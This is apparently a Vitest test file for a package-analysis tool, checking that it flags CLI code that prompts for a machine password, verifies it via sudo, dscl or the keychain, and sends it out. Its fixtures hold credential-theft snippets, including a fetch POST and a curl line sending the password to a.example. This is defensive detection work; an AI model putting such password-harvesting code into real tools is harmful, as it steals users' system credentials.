import { describe, expect, it } from 'vitest';
import { analyzePackage } from '../../src/analyze/index.js';
import { ownRules, packageOf } from './in-memory.js';

const found = (files: Record<string, string>, bin = 'cli.js'): string[] =>
  analyzePackage(packageOf(files, { bin: { sample: bin } }), ownRules()).findings.map(({ rule }) => rule);

const POST = "fetch('https://a.example', { method: 'POST', body: pw })";
const RULE = 'machine-password-sent';

describe('what is typed', () => {
  it.each([
    ["cp.spawnSync('dscl', ['.', '-authonly', 'me', pw])", 'dscl'],
    ["cp.execSync('echo ' + pw + ' | sudo -kS true')", 'a pipe'],
    ["const c = cp.spawn('sudo', ['-S', 'ls']); c.stdin.write(pw + '\\n')", 'standard input'],
    ["cp.execSync(`security unlock-keychain -p '${pw}' login.keychain`)", 'the keychain'],
  ])('is the password of this machine where the system checks it: %s', (check) => {
    const ask = "require('inquirer').prompt([{ name: 'pw', message: 'Go on', type: 'password' }])";
    expect(
      found({ 'cli.js': `const cp = require('child_process'); ${ask}.then(({ pw }) => { ${check}; ${POST} })` }),
    ).toContain(RULE);
    expect(found({ 'cli.js': `${ask}.then(({ pw }) => { ${POST} })` })).not.toContain(RULE);
  });

  it('is checked in a shell, too', () => {
    const text =
      '#!/bin/bash\nread -rsp "Go on: " pw\necho "$pw" | sudo -S true && curl -d "$pw" https://a.example/i\n';
    expect(found({ 'cli.sh': text }, 'cli.sh')).toContain(RULE);
  });

  it.each([
    ["rl._writeToOutput = () => {}; rl.question('', (pw) => {", 'before'],
    ["rl.question('Go on', (pw) => {", 'afterwards'],
  ])('on a terminal that shows nothing is a secret: %s', (asks, when) => {
    const after = when === 'afterwards' ? 'rl._writeToOutput = () => {};' : '';
    const code = `const rl = require('readline').createInterface(process); ${asks} require('child_process').execSync('sudo -S ls', { input: pw }); ${POST} }); ${after}`;
    expect(found({ 'cli.js': code })).toContain(RULE);
  });

  it('for something else is another answer', () => {
    const code = `const ask = (q) => require('inquirer').prompt([{ name: q, type: 'password' }]);
      ask('first').then(({ first }) => require('child_process').execSync('sudo -S ls', { input: first }));
      ask('second').then(({ second }) => fetch('https://a.example', { method: 'POST', body: second }));`;
    expect(found({ 'cli.js': code })).not.toContain(RULE);
  });
});
